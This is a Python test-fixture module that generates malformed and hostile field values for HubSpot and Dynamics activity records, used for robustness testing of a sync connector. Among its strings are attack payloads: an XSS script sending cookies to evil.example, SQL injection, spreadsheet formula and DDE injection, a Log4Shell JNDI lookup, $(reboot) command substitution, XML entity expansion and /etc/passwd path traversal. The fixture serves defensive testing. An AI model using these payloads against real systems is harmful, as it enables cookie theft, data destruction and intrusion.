"""Values that no well-behaved client writes, and that every connector meets one day, in each property and column."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from activity_sync.activities.kinds import ActivityType

_TEXTS: tuple[Any, ...] = (
    "",
    " \t\r\n ",
    "null",
    "[]",
    '{"a": 1}',
    "x" * 70_000,
    "\U0001f9d1\u200d\U0001f680" * 8_000,
    "a\x00b\x01c\x08d\x0be\x1ff\x7f\ufffe\uffff",
    "half a \ud83d pair, and the other \ude00 half",
    "\u202eright to left\u202c \u200b\u2066hidden\u2069 \ufeff",
    "e\u0301" * 3_000 + "Z\u0351\u036b\u0343" * 500,
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<p>Hello<script>alert(1)</script><img src=x onerror=alert(1)></p>",
    "<svg/onload=alert(1)><iframe src='javascript:alert(1)'></iframe>",
    "<style>*{display:none}</style><!-- <p>never closed",
    "<div>" * 200 + "deep" + "</div>" * 200,
    "<b>" * 200,
    "</p></div></table>]]><![CDATA[<p>after</p>",
    "&#x0;&#55357;&bogus;&amp;amp;" * 50,
    "<table>" + "<tr><td>1</td></tr>" * 2_000 + "</table>",
    "<p>" + "&nbsp;" * 20_000 + "</p>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'><!ENTITY d '&b;&b;'>]><a>&d;</a>",
    "'; DROP TABLE links; --",
    'Robert"); DELETE FROM outstanding WHERE ("1"="1',
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n $(reboot)",
    "../../../../etc/passwd\x00.html",
    "--changeset_1\r\nContent-Type: application/http\r\n\r\nDELETE /x HTTP/1.1",
    "line\rline\nline\r\nline\u2028line\u2029line\x85line",
)
_MOMENTS: tuple[Any, ...] = (
    "not a time",
    "0",
    "-1",
    "0001-01-01T00:00:00Z",
    "1752-12-31T23:59:59Z",
    "9999-12-31T23:59:59.999Z",
    "275760-09-13T00:00:00Z",
    "2026-02-30T10:00:00Z",
    "2026-03-01T25:61:61Z",
    "2026-03-01T10:00:00+99:00",
    "99999999999999999999999",
    "-8640000000000001",
    "NaN",
    "1e400",
    "2026-03-01",
    "\u0662\u0660\u0662\u0666-03-01T10:00:00Z",
)
_CHOICES: tuple[Any, ...] = ("SOMETHING_NEW", "completed ", "0", "\u0130STANBUL", "<b>OPEN</b>", "A" * 5_000, "a;b;;c")
_NUMBERS: tuple[Any, ...] = ("-60000", "60000.5", "1e309", "Infinity", "NaN", "0x10", "9" * 40, "1,000", "", "\u0663")
_HEADERS: tuple[Any, ...] = (
    "not JSON",
    "[]",
    "null",
    "7",
    '{"from": 7, "to": "x", "cc": {"email": ["a"]}}',
    '{"to": [null, {}, {"email": null}, {"email": "no at sign"}, {"email": "a@b@c"}, [[]]]}',
    '{"from": {"email": "a@acme.example"}, "to": [' + ",".join(['{"email": "p@acme.example"}'] * 700) + "]}",
    '{"from": {"email": "x' + "y" * 3_000 + '@acme.example", "firstName": {"a": 1}}}',
    "{" * 2_000,
)
_NOT_TEXTS: tuple[Any, ...] = (7, -1, 1.5, True, None, [], ["a"], {}, {"a": {"b": 1}})
_NOT_CHOICES: tuple[Any, ...] = (999, -1, "1", True, 1.5, None, [], 2**70)
_NOT_NUMBERS: tuple[Any, ...] = (-30, 2**31, 2**70, "30", 0.5, True, None, [], {})

_HUBSPOT: dict[str, dict[str, tuple[Any, ...]]] = {
    "note": {"hs_note_body": _TEXTS, "hs_timestamp": _MOMENTS, "hubspot_owner_id": _CHOICES},
    "task": {
        "hs_task_subject": _TEXTS,
        "hs_task_body": _TEXTS,
        "hs_timestamp": _MOMENTS,
        "hs_task_status": _CHOICES,
        "hs_task_priority": _CHOICES,
        "hs_task_type": _CHOICES,
    },
    "call": {
        "hs_call_title": _TEXTS,
        "hs_call_body": _TEXTS,
        "hs_timestamp": _MOMENTS,
        "hs_call_status": _CHOICES,
        "hs_call_direction": _CHOICES,
        "hs_call_disposition": _CHOICES,
        "hs_call_duration": _NUMBERS,
        "hs_call_to_number": _TEXTS,
    },
    "email": {
        "hs_email_subject": _TEXTS,
        "hs_email_html": _TEXTS,
        "hs_timestamp": _MOMENTS,
        "hs_email_status": _CHOICES,
        "hs_email_direction": _CHOICES,
        "hs_email_headers": _HEADERS,
    },
    "meeting": {
        "hs_meeting_title": _TEXTS,
        "hs_meeting_body": _TEXTS,
        "hs_meeting_location": _TEXTS,
        "hs_meeting_start_time": _MOMENTS,
        "hs_meeting_end_time": (*_MOMENTS, "2020-01-01T00:00:00Z"),
        "hs_meeting_outcome": _CHOICES,
    },
}
_DYNAMICS: dict[str, dict[str, tuple[Any, ...]]] = {
    "note": {"subject": (*_TEXTS, *_NOT_TEXTS), "notetext": (*_TEXTS, *_NOT_TEXTS)},
    "task": {
        "subject": (*_TEXTS, *_NOT_TEXTS),
        "description": (*_TEXTS, *_NOT_TEXTS),
        "scheduledend": (*_MOMENTS, *_NOT_TEXTS),
        # HubSpot fills an empty priority in by itself, which is a value to carry.
        "prioritycode": tuple(one for one in _NOT_CHOICES if one is not None),
        "statuscode": _NOT_CHOICES,
    },
    "call": {
        "subject": (*_TEXTS, *_NOT_TEXTS),
        "description": _TEXTS,
        "actualstart": _MOMENTS,
        "actualdurationminutes": _NOT_NUMBERS,
        "directioncode": _NOT_CHOICES,
        "phonenumber": _TEXTS,
    },
    "email": {
        "subject": (*_TEXTS, *_NOT_TEXTS),
        "description": (*_TEXTS, *_NOT_TEXTS),
        "actualend": _MOMENTS,
        "statuscode": _NOT_CHOICES,
        "directioncode": _NOT_CHOICES,
    },
    "meeting": {
        "subject": (*_TEXTS, *_NOT_TEXTS),
        "description": _TEXTS,
        "location": _TEXTS,
        "scheduledstart": (*_MOMENTS, *_NOT_TEXTS),
        "scheduledend": (*_MOMENTS, "2020-01-01T00:00:00Z"),
        "statuscode": _NOT_CHOICES,
    },
}


@dataclass(frozen=True, eq=False)
class Hostile:
    """One record of a system that is like any other but for one value."""

    system: str
    kind: ActivityType
    id: str
    name: str
    value: Any

    def __str__(self) -> str:
        return f"{self.system} {self.kind} {self.name}={ascii(self.value)[:60]}"


def hostile_records() -> Iterator[Hostile]:
    """Each value in each place that it is for, in both systems."""
    number = 0
    for system, places in (("hubspot", _HUBSPOT), ("dynamics", _DYNAMICS)):
        for kind, names in places.items():
            for name, values in names.items():
                for value in values:
                    number += 1
                    record_id = str(600_000 + number) if system == "hubspot" else str(uuid.UUID(int=number, version=4))
                    yield Hostile(system, ActivityType(kind), record_id, name, value)
